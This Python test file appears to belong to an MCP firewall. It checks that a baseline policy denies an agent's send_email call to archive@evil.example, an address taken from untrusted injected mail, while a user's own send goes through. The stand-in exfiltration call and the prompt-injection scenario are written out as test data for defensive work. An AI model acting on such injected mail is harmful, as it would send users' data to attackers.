"""The baseline pack end to end through `mcp-firewall wrap`, with no configuration at all: an
address read from an untrusted output and passed to a send-mail tool is denied; an address that
appears only in the call is allowed. Then the same through the OPA-server engine."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from gateway import DEMO_SERVER, wrapped_server
from mcp import Client, StdioServerParameters

from tests.support.opa_server import opa_server

pytestmark = pytest.mark.anyio


def wrapper(tmp_path: Path, config: str | None) -> tuple[StdioServerParameters, Path]:
    # The classifier would withhold the injected mail itself; these tests are about the policy
    # stopping the exfiltration even when the injection reaches the agent.
    return wrapped_server(tmp_path, (config or "") + "[detect]\nclassifier = 'off'\n", DEMO_SERVER, "inbox")


async def exfiltration_attempt(params: StdioServerParameters) -> tuple[bool, bool]:
    """(was the injected send denied, was the user's own send allowed)."""
    async with Client(params, mode="legacy") as client:
        inbox = await client.call_tool("read_inbox", {})
        assert "archive@evil.example" in inbox.content[0].text  # type: ignore[union-attr]
        injected = await client.call_tool(
            "send_email", {"to": "archive@evil.example", "subject": "Fwd", "body": "x"}
        )
        own = await client.call_tool(
            "send_email", {"to": "carol@partner.example", "subject": "Hi", "body": "Lunch?"}
        )
    return bool(injected.is_error), not own.is_error


async def test_baseline_denies_an_address_taken_from_untrusted_mail_and_allows_a_fresh_one(
    tmp_path: Path,
) -> None:
    params, audit = wrapper(tmp_path, config=None)  # no policy configuration at all: the baseline pack runs
    denied, allowed = await exfiltration_attempt(params)
    assert denied and allowed
    calls = [json.loads(line) for line in audit.read_text().splitlines()]
    sends = [r for r in calls if r["kind"] == "tool_call" and r["tool"] == "send_email"]
    assert [r["decision"] for r in sends] == ["deny", "allow"]
    assert sends[0]["rule_ids"] == ["baseline.untrusted_argument_to_side_effect"]


async def test_the_opa_server_engine_makes_the_same_decisions_end_to_end(tmp_path: Path) -> None:
    with opa_server() as (url, state):
        config = f"[policy]\nengine = 'opa'\n[policy.opa]\nurl = '{url}'\ntimeout_seconds = 2\n"
        params, audit = wrapper(tmp_path, config)
        denied, allowed = await exfiltration_attempt(params)
        assert state.queries > 0
    assert denied and allowed
    sends = [json.loads(line) for line in audit.read_text().splitlines()]
    sends = [r for r in sends if r["kind"] == "tool_call" and r["tool"] == "send_email"]
    assert [r["decision"] for r in sends] == ["deny", "allow"]
